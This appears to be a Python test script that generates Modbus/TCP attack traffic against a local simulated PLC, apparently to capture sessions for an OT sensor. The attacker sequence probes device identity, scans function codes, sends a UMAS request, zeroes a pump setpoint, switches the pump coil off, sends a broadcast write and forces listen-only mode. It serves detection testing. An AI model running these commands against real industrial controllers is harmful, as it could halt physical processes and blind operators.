#!/usr/bin/env python3
"""Modbus/TCP HMI and attacker for the OTSensor attack-session capture (pymodbus 3.16.1).

Talks to attack_server.py with two clients, in this fixed order:
  HMI (source 127.0.0.1), one connection kept open: a polling cycle (FC3, FC4,
    FC1 on unit 1);
  attacker (source 127.0.0.2), one connection: read device identification
    (43/14), report server ID (17), a function-code scan (25, 40, 65, 100, 120,
    each answered ILLEGAL FUNCTION), a function 90 (UMAS) request (ILLEGAL
    FUNCTION too: the PLC is not a Schneider controller), a holding-register
    write (FC6) and a coil write (FC5) on unit 1, a register write to unit 0
    (broadcast, never answered), clear counters (8/10), restart communications
    (8/1) and force listen-only mode (8/4, sent as "no response expected");
  HMI again: a second polling cycle, which shows the attacker's writes.
Every reply is checked; prints one line per request and exits non-zero if any
reply was not as expected.

Usage: attack_client.py [HOST] [PORT]       (default 127.0.0.1 502)
"""

import sys
import time

from pymodbus.client import ModbusTcpClient
from pymodbus.pdu import ModbusPDU

HOST = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
PORT = int(sys.argv[2]) if len(sys.argv) > 2 else 502
HMI_ADDRESS = "127.0.0.1"
ATTACKER_ADDRESS = "127.0.0.2"

# Function codes the attacker probes: unassigned public codes 25, 40 and 120 and
# user-defined codes 65 and 100 (Modbus Application Protocol V1.1b3 section 5).
SCAN = [25, 40, 65, 100, 120]
ILLEGAL_FUNCTION = 1
results: list[bool] = []


class RawRequest(ModbusPDU):
    """A request pymodbus has no class for: a function code and the octets after it."""

    def __init__(self, data: bytes = b"", dev_id: int = 1, transaction_id: int = 0) -> None:
        super().__init__(dev_id=dev_id, transaction_id=transaction_id)
        self.data = data

    def encode(self) -> bytes:
        return self.data

    def decode(self, data: bytes) -> None:
        self.data = data


def raw_request(function_code: int, data: bytes = b"", device_id: int = 1) -> RawRequest:
    cls = type(f"Function{function_code}", (RawRequest,), {"function_code": function_code})
    return cls(data, dev_id=device_id)


def record(who: str, what: str, rr, ok: bool, detail: str) -> None:
    results.append(ok)
    tid = getattr(rr, "transaction_id", "-")
    print(f"{'OK ' if ok else 'BAD'} {who:<8} tid={tid!s:<3} {what:<44} -> {detail}", flush=True)


def expect_ok(who, what, rr, check):
    if rr.isError():
        record(who, what, rr, False, f"unexpected exception fc=0x{rr.function_code:02x} "
               f"code={getattr(rr, 'exception_code', None)}")
        return
    ok, detail = check(rr)
    record(who, what, rr, ok, detail)


def expect_exc(who, what, rr, fc, code):
    got = (rr.function_code, getattr(rr, "exception_code", None)) if rr.isError() else None
    record(who, what, rr, got == (fc, code),
           f"exception fc=0x{fc:02x} code={code:02d}" if got == (fc, code)
           else f"expected exception 0x{fc:02x}/{code:02d}, got {rr}")


def connect(name: str, source: str) -> ModbusTcpClient:
    c = ModbusTcpClient(HOST, port=PORT, timeout=3, retries=0, reconnect_delay=0, name=name,
                        source_address=(source, 0))
    if not c.connect():
        print(f"cannot connect to {HOST}:{PORT} from {source}", file=sys.stderr)
        sys.exit(2)
    return c


def poll(c: ModbusTcpClient, cycle: int, setpoint: int, pump_run: bool) -> None:
    who = "hmi"
    expect_ok(who, f"[cycle {cycle}] FC3 u1 read_holding_registers 0 x10",
              c.read_holding_registers(0, count=10, device_id=1),
              lambda r: (r.registers[0] == setpoint and len(r.registers) == 10,
                         f"registers {r.registers}"))
    expect_ok(who, f"[cycle {cycle}] FC4 u1 read_input_registers 0 x10",
              c.read_input_registers(0, count=10, device_id=1),
              lambda r: (len(r.registers) == 10, f"registers {r.registers}"))
    expect_ok(who, f"[cycle {cycle}] FC1 u1 read_coils 0 x16",
              c.read_coils(0, count=16, device_id=1),
              lambda r: (r.bits[0] is pump_run,
                         "bits " + "".join("1" if b else "0" for b in r.bits[:16])))


def attack(c: ModbusTcpClient) -> None:
    who = "attacker"
    expect_ok(who, "FC43/14 u1 read_device_id basic",
              c.read_device_information(read_code=0x01, object_id=0x00, device_id=1),
              lambda r: (r.information.get(0) == b"OTSensor Test Works", f"objects {r.information}"))
    expect_ok(who, "FC17 u1 report_server_id", c.report_device_id(device_id=1),
              lambda r: (r.identifier.startswith(b"OTSensor"), f"id={r.identifier!r} run={r.status}"))
    for code in SCAN:
        expect_exc(who, f"FC{code} u1 (scan, no data)", c.execute(False, raw_request(code)),
                   0x80 | code, ILLEGAL_FUNCTION)
    # Schneider UMAS: session 0x00, UMAS function 0x02 (read PLC identification).
    expect_exc(who, "FC90 u1 UMAS 00 02", c.execute(False, raw_request(90, b"\x00\x02")),
               0x80 | 90, ILLEGAL_FUNCTION)
    expect_ok(who, "FC6 u1 write_register 0 = 0 (pump setpoint)",
              c.write_register(0, 0, device_id=1),
              lambda r: (r.address == 0 and r.registers == [0], f"echo addr={r.address} {r.registers}"))
    expect_ok(who, "FC5 u1 write_coil 0 = OFF (pump run)",
              c.write_coil(0, False, device_id=1),
              lambda r: (r.address == 0 and r.bits[0] is False, f"echo addr={r.address} {r.bits[0]}"))
    c.write_register(4, 0, device_id=0, no_response_expected=True)
    record(who, "FC6 u0 write_register 4 = 0 (broadcast)", None, True, "sent, no response expected")
    time.sleep(0.1)  # nothing comes back; let the PLC act before the next request
    expect_ok(who, "FC8/10 u1 clear counters", c.diag_clear_counters(device_id=1),
              lambda r: (r.sub_function_code == 10, f"sub={r.sub_function_code}"))
    expect_ok(who, "FC8/1 u1 restart communications", c.diag_restart_communication(False, device_id=1),
              lambda r: (r.sub_function_code == 1, f"sub={r.sub_function_code}"))
    c.diag_force_listen_only(device_id=1, no_response_expected=True)
    record(who, "FC8/4 u1 force listen-only mode", None, True, "sent, no response expected")
    time.sleep(0.2)  # pymodbus answers 8/4 all the same; let that reply arrive before closing


def main() -> int:
    hmi = connect("hmi", HMI_ADDRESS)
    poll(hmi, 1, setpoint=1500, pump_run=True)
    time.sleep(0.2)

    attacker = connect("attacker", ATTACKER_ADDRESS)
    attack(attacker)
    attacker.close()
    time.sleep(0.2)

    poll(hmi, 2, setpoint=0, pump_run=False)
    hmi.close()

    bad = results.count(False)
    print(f"summary: {len(results)} requests, {len(results) - bad} as expected, {bad} unexpected", flush=True)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
